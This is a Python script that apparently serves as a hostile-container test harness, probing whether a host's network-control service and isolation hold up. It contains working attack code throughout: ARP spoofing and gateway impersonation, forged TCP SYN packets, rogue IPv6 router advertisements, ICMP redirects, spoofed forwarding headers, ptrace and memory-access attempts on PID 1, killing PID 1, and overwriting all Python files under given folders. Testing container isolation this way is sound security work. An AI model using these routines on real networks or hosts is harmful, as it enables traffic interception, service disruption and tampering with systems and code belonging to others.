"""Attacks by a hostile container, run inside it as `python3 - MODE ARGUMENTS`; prints one line of JSON.

It has Docker's default rights: root, and raw sockets. Standard library only.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import select
import signal
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any

SECONDS = 1.0
ARP, IPV4 = 0x0806, 0x0800
SYN, SYN_ACK = 0x02, 0x12
_PIDFD_OPEN, _PIDFD_GETFD = 434, 438  # the same on all architectures
PREFIX = "2001:db8::"
CHANGE = b'{"ingress": {"loss": "99%"}}'
FORWARDED = (
    "X-Forwarded-For: {0}",
    "X-Forwarded-For: 127.0.0.1, {0}",
    "Forwarded: for={0};proto=http",
    "X-Real-IP: {0}",
    "X-Forwarded-Host: localhost\r\nX-Forwarded-For: {0}\r\nX-Forwarded-Proto: http",
)


def connect(host: str, ports: str, send: str = "") -> dict[str, Any]:
    """The first bytes from each port, after `send` if given; or its refusal."""
    numbers = ports.split(",")
    with ThreadPoolExecutor() as pool:
        return dict(
            zip(numbers, pool.map(lambda port: _first_words(host, int(port), send.encode()), numbers), strict=True)
        )


def http(host: str, port: str, method: str, path: str, *headers: str) -> dict[str, Any]:
    """The status line of the answer."""
    head = "".join(f"{line}\r\n" for line in headers)
    text = f"{method} {path} HTTP/1.1\r\n{head}Content-Length: {len(CHANGE)}\r\nConnection: close\r\n\r\n".encode()
    return {"status": _first_words(host, int(port), text + CHANGE).split("\r\n")[0]}


def tls(host: str, ports: str, request: str, *headers: str) -> dict[str, Any]:
    """The status line of each port's answer over TLS, whatever its certificate; or its refusal."""
    host_header = [] if any(line.startswith("Host:") for line in headers) else ["Host: localhost"]
    lines = (f"{request} HTTP/1.1", *host_header, *headers, "Content-Length: 0", "")
    text = "".join(f"{line}\r\n" for line in lines)
    return {port: _first_line(host, int(port), text.encode()) for port in ports.split(",")}


def _first_line(host: str, port: int, send: bytes) -> str:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((host, port), SECONDS) as plain, context.wrap_socket(plain) as connection:
            connection.sendall(send)
            return connection.recv(2000).decode(errors="replace").split("\r\n")[0]
    except OSError as error:
        return type(error).__name__


def past(client: str, mac: str, target: str, port: str) -> dict[str, Any]:
    """Send connection requests for another address to the client's hardware address: how many are answered."""
    with _wire() as wire:
        source = wire.getsockname()[4]
        own = socket.gethostbyname(socket.gethostname())
        for _ in range(5):
            wire.send(_tcp(source, bytes.fromhex(mac.replace(":", "")), own, target, int(port), SYN))
        ends = _pair(target, own), _pair(client, own)
        return {"own": own, "answers": sum(frame[26:34] in ends and frame[23] == 6 for frame in _heard(wire, SECONDS))}


def forwarded(gateway: str) -> dict[str, Any]:
    """From inside: the status lines for a change, with each header that claims we are the host."""
    headers = [line.format(gateway) for line in FORWARDED]
    asked = [http("127.0.0.1", "80", "PATCH", "/v1/conditions", "Host: localhost", line) for line in headers]
    return {"uid": os.getuid(), "statuses": [result["status"] for result in asked]}


def spoof(client: str, gateway: str, port: str) -> dict[str, Any]:
    """Claim the gateway's address, then connect to the client from it and listen for answers."""
    with _wire() as wire:
        own = wire.getsockname()[4]
        macs = {name: _mac_of(wire, own, name) for name in (client, gateway)}
        for _ in range(5):
            wire.send(_arp(2, own, gateway, macs[client], client))
            wire.send(_arp(1, own, gateway, b"\xff" * 6, client))
            time.sleep(0.05)
        heard = 0
        for source in (own, macs[gateway]):  # the second also forges the gateway's hardware address
            wire.send(_tcp(source, macs[client], gateway, client, int(port), SYN))
            answers = (frame for frame in _heard(wire) if frame[26:34] == _pair(client, gateway))
            heard += sum(frame[47] == SYN_ACK for frame in answers)
        return {"answers": heard, "claimed": own.hex(":"), "gateway": macs[gateway].hex(":")}


def pretend(gateway: str) -> dict[str, Any]:
    """Claim the gateway's address toward everybody until standard input ends, with solicited and unsolicited ARP."""
    print("ready", flush=True)
    claims = 0
    with _wire() as wire:
        own = wire.getsockname()[4]
        while not select.select([sys.stdin], [], [], 0)[0]:
            wire.send(_arp(2, own, gateway, b"\xff" * 6, gateway))
            for frame in _heard(wire, 0.005):
                if _is_question(frame, gateway):
                    wire.send(_arp(2, own, gateway, frame[6:12], socket.inet_ntoa(frame[28:32])))
            claims += 1
    return {"claims": claims}


def advertise(client: str) -> dict[str, Any]:
    """Advertise ourselves as router of 2001:db8::/64 to everybody and to the client alone (RFC 4861)."""
    prefix = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 3600, 3600, 0, socket.inet_pton(socket.AF_INET6, PREFIX))
    with _wire() as wire:
        own = wire.getsockname()[4]
        body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + b"\x01\x01" + own
        router = socket.inet_pton(socket.AF_INET6, "fe80::66")
        everyone = socket.inet_pton(socket.AF_INET6, "ff02::1")
        body = body[:2] + _sum(router + everyone + struct.pack("!II", len(body), 58) + body) + body[4:]
        head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + router + everyone
        targets = bytes.fromhex("333300000001"), bytes.fromhex(client.replace(":", ""))
        for target in targets * 5:
            wire.send(target + own + b"\x86\xdd" + head + body)
            time.sleep(0.05)
        return {"sent": 5 * len(targets)}


def redirect(client: str, mac: str, gateway: str, target: str) -> dict[str, Any]:
    """Send a redirect in the gateway's name: the route to `target` is through us (RFC 792)."""
    own = socket.gethostbyname(socket.gethostname())
    with _wire() as wire:
        quoted = struct.pack("!BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 17, 0) + _pair(client, target)
        body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(own)) + quoted + struct.pack("!HHHH", 9, 9, 8, 0)
        body = body[:2] + _sum(body) + body[4:]
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 1, 0, 64, 1, 0) + _pair(gateway, client)
        frame = bytes.fromhex(mac.replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
        for _ in range(5):
            wire.send(frame + head[:10] + _sum(head) + head[12:] + body)
        return {"sent": 5}


def control(port: str) -> dict[str, Any]:
    """From inside: mark a socket like the host does, and connect to the host's port."""
    with socket.socket() as connection:
        connection.settimeout(SECONDS)
        try:
            connection.setsockopt(socket.SOL_SOCKET, 36, 0x73796E74)
            marked = "marked"
        except OSError as error:
            marked = os.strerror(error.errno or 0)
        try:
            connection.connect(("127.0.0.1", int(port)))
            return {"mark": marked, "door": "open"}
        except OSError as error:
            return {"mark": marked, "door": str(error)}


def seize() -> dict[str, Any]:
    """From inside: read, trace and kill PID 1, the only process that may change the network, and copy its rights.

    Each attempt by name, and its outcome.
    """
    libc = ctypes.CDLL(None, use_errno=True)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(16)), 16)
    there = (ctypes.c_size_t * 2)(0x400000, 16)
    pidfd = libc.syscall(_PIDFD_OPEN, 1, 0)
    wanted = struct.pack("6I", 1 << 12, 1 << 12, 1 << 12, 0, 0, 0)
    attempts: dict[str, Callable[[], Any]] = {
        "attach": lambda: libc.ptrace(16, 1, None, None),
        "seize": lambda: libc.ptrace(0x4206, 1, None, None),
        "read memory": lambda: libc.process_vm_readv(1, vector, 1, there, 1, 0),
        "write memory": lambda: libc.process_vm_writev(1, vector, 1, there, 1, 0),
        "take a socket": lambda: libc.syscall(_PIDFD_GETFD, pidfd, 3, 0),
        "take the capability": lambda: libc.capset(struct.pack("Ii", 0x20080522, 0), wanted),
        "raise it for programs": lambda: libc.prctl(47, 2, 12, 0, 0),
        "mark": _marked,
        "change an address": _readdressed,
        "capture": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close(),
        **{f"open {name}": Path(f"/proc/1/{name}").read_bytes for name in ("mem", "environ", "maps", "fd/0", "ns/net")},
    }
    answers = {name: _outcome(attempt) for name, attempt in attempts.items()}
    for number in (signal.SIGKILL, signal.SIGSTOP):
        with suppress(OSError):
            os.kill(1, number)
    time.sleep(0.2)
    state = Path("/proc/1/stat").read_text().rpartition(")")[2].split()[0]
    return {"uid": os.getuid(), "attempts": answers, "state": state}


def _outcome(attempt: Callable[[], Any]) -> str:
    ctypes.set_errno(0)
    try:
        result = attempt()
    except OSError as error:
        return errno.errorcode[error.errno or 0]
    return errno.errorcode[ctypes.get_errno()] if isinstance(result, int) and result < 0 else "done"


def _marked() -> None:
    with socket.socket() as marked:
        marked.setsockopt(socket.SOL_SOCKET, 36, 1)


def _readdressed() -> None:
    """Add an address of this container to lo, by netlink."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as kernel:
        address = struct.pack("BBBBi", socket.AF_INET, 32, 0, 0, 1) + struct.pack("HH4s", 8, 2, b"\x0a\x01\x02\x03")
        kernel.send(struct.pack("IHHII", 16 + len(address), 20, 0x605, 1, 0) + address)
        code = struct.unpack_from("i", kernel.recv(4096), 16)[0]
    if code:
        raise OSError(-code, os.strerror(-code))


def overwrite(*folders: str) -> dict[str, Any]:
    """As root, overwrite all Python code there."""
    files = [file for folder in folders for file in Path(folder).rglob("*.py*") if file.is_file()]
    for file in files:
        file.unlink()
        file.write_text("raise SystemExit('altered')\n")
    return {"files": len(files)}


def _first_words(host: str, port: int, send: bytes) -> str:
    try:
        with socket.create_connection((host, port), SECONDS) as connection:
            connection.sendall(send)
            return connection.recv(2000).decode(errors="replace")
    except OSError as error:
        return f"{type(error).__name__}"


def _wire() -> socket.socket:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    wire.bind(("eth0", 3))
    return wire


def _heard(wire: socket.socket, seconds: float = 0.5) -> Iterator[bytes]:
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        wire.settimeout(left)
        try:
            yield wire.recv(2000)
        except TimeoutError:
            return


def _mac_of(wire: socket.socket, own: bytes, address: str) -> bytes:
    wire.send(_arp(1, own, socket.gethostbyname(socket.gethostname()), b"\xff" * 6, address))
    for frame in _heard(wire, SECONDS):
        if frame[12:14] == b"\x08\x06" and frame[28:32] == socket.inet_aton(address) and frame[22:28] != own:
            return frame[22:28]
    raise SystemExit(f"{address} does not answer")


def _arp(kind: int, mac: bytes, claimed: str, target: bytes, address: str) -> bytes:
    asked = bytes(6) if kind == 1 else target
    ends = mac + socket.inet_aton(claimed) + asked + socket.inet_aton(address)
    return target + mac + struct.pack("!HHHBBH", ARP, 1, IPV4, 6, 4, kind) + ends


def _is_question(frame: bytes, address: str) -> bool:
    asks = struct.pack("!HHHBBH", ARP, 1, IPV4, 6, 4, 1)
    return frame[12:22] == asks and frame[38:42] == socket.inet_aton(address)


def _tcp(source: bytes, target: bytes, sender: str, receiver: str, port: int, flags: int) -> bytes:
    segment = struct.pack("!HHIIBBHHH", 40000, port, 1000, 0, 5 << 4, flags, 64000, 0, 0)
    pseudo = _pair(sender, receiver) + struct.pack("!HH", 6, len(segment))
    segment = segment[:16] + _sum(pseudo + segment) + segment[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0, 64, 6, 0) + _pair(sender, receiver)
    return target + source + struct.pack("!H", IPV4) + head[:10] + _sum(head) + head[12:] + segment


def _pair(sender: str, receiver: str) -> bytes:
    return socket.inet_aton(sender) + socket.inet_aton(receiver)


def _sum(data: bytes) -> bytes:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


MODES: dict[str, Callable[..., dict[str, Any]]] = {
    "connect": connect,
    "http": http,
    "tls": tls,
    "past": past,
    "forwarded": forwarded,
    "spoof": spoof,
    "pretend": pretend,
    "advertise": advertise,
    "redirect": redirect,
    "control": control,
    "seize": seize,
    "overwrite": overwrite,
}

if __name__ == "__main__":
    print(json.dumps(MODES[sys.argv[1]](*sys.argv[2:])))
